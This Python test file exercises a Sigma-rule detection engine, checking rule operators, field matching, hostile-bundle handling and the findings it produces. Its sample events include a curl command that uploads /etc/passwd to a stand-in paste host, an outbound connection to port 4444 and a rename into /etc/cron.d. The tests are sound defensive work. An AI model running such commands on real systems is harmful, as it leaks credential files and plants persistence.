"""The Sigma bundle's condition trees, run as detections (vigil.sigma): operators, fields per
category, the program prefilter, hostile bundles, and the findings' shape."""

from __future__ import annotations

import json

import msgspec
import pytest
from guardduty_shape import validate
from hypothesis import given, settings
from hypothesis import strategies as st

from vigil import sample as s
from vigil import sigma as vs
from vigil.detection import Context
from vigil.engine import Engine
from vigil.findings import occurrences
from vigil.intel.builtin import builtin_intel
from vigil.state import InMemoryState

CURL = s.proc(
    "/usr/bin/curl", "-F", "f=@/etc/passwd", "https://Paste.Example.invalid/x", parent=s.LOGIN_SHELL
)
PY = s.proc("/usr/bin/python3.11", "-c", "x", parent=s.LOGIN_SHELL)


def rule(cond: vs.Node, category: str = "process_creation", **kw: object) -> vs.CompiledRule:
    return vs.CompiledRule(id=str(kw.pop("id", "r1")), title="t", category=category, condition=cond, **kw)  # type: ignore[arg-type]


def fires(cond: vs.Node, event: object, category: str = "process_creation") -> bool:
    return vs.detection_for(rule(cond, category))().match(event, Context(state=InMemoryState()))


@pytest.mark.parametrize(
    ("cond", "expected"),
    [
        (vs.Match("process.file.path", "eq", ["/USR/BIN/CURL"]), True),  # case-insensitive by default
        (vs.Match("process.file.path", "eq", ["/USR/BIN/CURL"], cased=True), False),
        (vs.Match("process.cmd_line", "contains", ["paste.example"]), True),
        (vs.Match("process.cmd_line", "contains", ["paste.example"], cased=True), False),
        (vs.Match("process.cmd_line", "startswith", ["curl -f"]), True),
        (vs.Match("process.cmd_line", "endswith", ["/X", "nope"]), True),
        (vs.Match("process.cmd_line", "re", [r"-F\s+f=@/etc/pass"]), True),
        (vs.Match("process.cmd_line", "re", [r"paste\.example"]), False),  # regexes are cased ...
        (vs.Match("process.cmd_line", "re", [r"paste\.example"], flags="i"), True),  # ... unless flag i
        (vs.Match("process.parent_process.file.path", "endswith", ["/bash"]), True),
        (vs.Match("process.parent_process.cmd_line", "exists"), True),
        (vs.Match("process.working_directory", "null"), False),
        (vs.Not(vs.Match("process.user.name", "eq", ["ec2-user"])), False),
        (
            vs.And(
                [
                    vs.Match("process.file.path", "endswith", ["/curl"]),
                    vs.Match("process.pid", "eq", ["4242"]),
                ]
            ),
            True,
        ),
        (
            vs.Or(
                [vs.Match("process.file.path", "endswith", ["/wget"]), vs.Match("process.pid", "eq", ["1"])]
            ),
            False,
        ),
    ],
)
def test_operators_on_a_process_creation(cond: vs.Node, expected: bool) -> None:
    # GIVEN a curl exec WHEN one condition is evaluated THEN it matches as Sigma says
    assert fires(cond, s.exec_(CURL)) is expected


def test_network_fields_and_cidr() -> None:
    out = s.connect(PY, "203.0.113.7", 4444)
    inbound = s.connect(PY, "203.0.113.7", 4444, kind="net_accept")
    cond = vs.And(
        [
            vs.Match("connection_info.direction", "eq", ["Outbound"]),
            vs.Match("dst_endpoint.port", "eq", ["4444"]),
            vs.Not(vs.Match("dst_endpoint.ip", "cidr", ["203.0.113.0/24", "::1/128"])),
        ]
    )
    assert not fires(cond, out, "network_connection")  # in the filtered range
    cond2 = vs.And(
        [
            vs.Match("connection_info.direction", "eq", ["outbound"]),
            vs.Match("dst_endpoint.ip", "cidr", ["203.0.113.0/24"]),
        ]
    )
    assert fires(cond2, out, "network_connection")
    assert not fires(cond2, inbound, "network_connection")


def test_file_event_matches_a_renames_destination() -> None:
    sh = s.proc("/bin/sh", parent=s.LOGIN_SHELL)
    moved = s.file_op(sh, "file_rename", "/tmp/x", new_path="/etc/cron.d/evil")
    cond = vs.Or(
        [
            vs.Match("file.path", "startswith", ["/etc/cron.d/"]),
            vs.Match("file_result.path", "startswith", ["/etc/cron.d/"]),
        ]
    )
    assert fires(cond, moved, "file_event")
    assert not fires(cond, s.file_op(sh, "file_write", "/etc/hosts"), "file_event")


@pytest.mark.parametrize(
    ("cond", "category", "why"),
    [
        (vs.Match("TargetFilename", "eq", ["x"]), "process_creation", "not available"),
        (vs.Match("process.cmd_line", "re", ["(unclosed"]), "process_creation", "does not compile"),
        (vs.Match("dst_endpoint.ip", "cidr", ["300.1.1.1/8"]), "network_connection", "bad CIDR"),
        (vs.Match("process.cmd_line", "contains", []), "process_creation", "no values"),
        (vs.Match("process.cmd_line", "eq", ["x"]), "registry_event", "unsupported category"),
    ],
)
def test_a_rule_that_cannot_run_is_refused_with_its_reason(cond: vs.Node, category: str, why: str) -> None:
    with pytest.raises(vs.RuleError, match=why):
        vs.detection_for(rule(cond, category))


def test_load_skips_the_bad_rule_and_keeps_the_others() -> None:
    good = rule(vs.Match("process.file.path", "endswith", ["/curl"]), id="good")
    bad = rule(vs.Match("process.cmd_line", "re", ["[z-a]"]), id="bad")
    off = msgspec.structs.replace(rule(vs.Match("process.pid", "eq", ["1"]), id="off"), enabled=False)
    data = vs.encode_bundle(vs.Bundle(format=vs.BUNDLE_FORMAT, rules=[good, bad, off, good]))
    loaded = vs.load_bundle(data)
    assert [d.rule.id for d in loaded.detections] == ["good"]  # type: ignore[attr-defined]
    assert {r for r, _ in loaded.skipped} == {"bad", "good"}  # the regex, and the duplicate id
    assert loaded.disabled == 1


_json = st.recursive(
    st.none() | st.booleans() | st.text(max_size=6) | st.integers(),
    lambda c: (
        st.lists(c, max_size=4)
        | st.dictionaries(
            st.sampled_from(
                ["and", "or", "not", "match", "field", "op", "values", "args", "arg", "type", "x"]
            ),
            c,
            max_size=4,
        )
    ),
    max_leaves=25,
)
_rule_like = st.fixed_dictionaries(
    {
        "id": st.text(max_size=8),
        "title": st.text(max_size=8),
        "category": st.sampled_from([*vs.FIELDS, "x"]),
        "condition": _json,
    },
    optional={"level": st.sampled_from(["low", "high", "nope"]), "enabled": st.booleans()},
)


@settings(max_examples=300, deadline=None)
@given(
    st.one_of(
        st.binary(max_size=300),
        _json.map(lambda v: json.dumps(v).encode()),
        st.lists(_rule_like, max_size=4).map(
            lambda rs: json.dumps({"format": vs.BUNDLE_FORMAT, "rules": rs}).encode()
        ),
    )
)
def test_a_hostile_bundle_loads_or_raises_rule_error_only(data: bytes) -> None:
    # GIVEN any bytes WHEN loaded THEN a bundle of runnable rules, or RuleError: nothing else escapes
    try:
        loaded = vs.load_bundle(data)
    except vs.RuleError as exc:
        assert str(exc)
        return
    for det in loaded.detections:
        assert det.kinds and det.meta.type.endswith(":Runtime/SigmaRule")
        det.match(s.exec_(CURL), Context(state=InMemoryState()))  # runs on an event of any kind


def test_a_deep_tree_is_refused_not_a_recursion_crash() -> None:
    node: vs.Node = vs.Match("process.pid", "eq", ["1"])
    for _ in range(100):
        node = vs.Not(node)
    with pytest.raises(vs.RuleError, match="deeper"):
        vs.detection_for(rule(node))


def test_program_prefilter_is_derived_only_when_the_tree_pins_the_program() -> None:
    pinned = vs.And(
        [
            vs.Match("process.file.path", "endswith", ["/curl", "/wget"]),
            vs.Match("process.cmd_line", "contains", ["x"]),
        ]
    )
    assert vs.required_programs(pinned, "process_creation") == {"curl", "wget"}
    either = vs.Or(
        [
            vs.Match("process.file.path", "endswith", ["/curl"]),
            vs.Match("process.cmd_line", "contains", ["x"]),
        ]
    )
    assert vs.required_programs(either, "process_creation") is None
    negated = vs.Not(vs.Match("process.file.path", "endswith", ["/curl"]))
    assert vs.required_programs(negated, "process_creation") is None
    det = vs.detection_for(rule(pinned))
    engine = Engine([det()])
    assert engine.offered("process_exec", "curl") and not engine.offered("process_exec", "bash")


def test_a_sigma_finding_is_a_guardduty_finding_with_its_attribution() -> None:
    r = vs.CompiledRule(
        id="5b0e8f0a-0000-0000-0000-000000000009",
        title="Upload to a paste site",
        category="process_creation",
        condition=vs.Match("process.cmd_line", "contains", ["paste.example"]),
        level="high",
        author="Someone <x@example.invalid>",
        tags=["attack.exfiltration", "attack.t1567.002"],
    )
    det = vs.detection_for(r)()
    assert det.meta.type == "Exfiltration:Runtime/SigmaRule" and det.meta.mitre == ("T1567.002",)
    engine = Engine([det], intel=builtin_intel())
    res = engine.run([s.exec_(CURL)], InMemoryState())
    [occ] = occurrences(
        res.matches, Context(state=InMemoryState()), account_id="123456789012", region="us-east-1"
    )
    doc = occ.finding
    assert validate(doc) == []
    info = json.loads(doc["service"]["additionalInfo"]["value"])
    assert info["sigma"]["id"] == r.id and info["sigma"]["author"].startswith("Someone")
    assert info["identityVerified"] is False and info["maturity"] == "experimental"
    assert doc["severity"] == 8.0
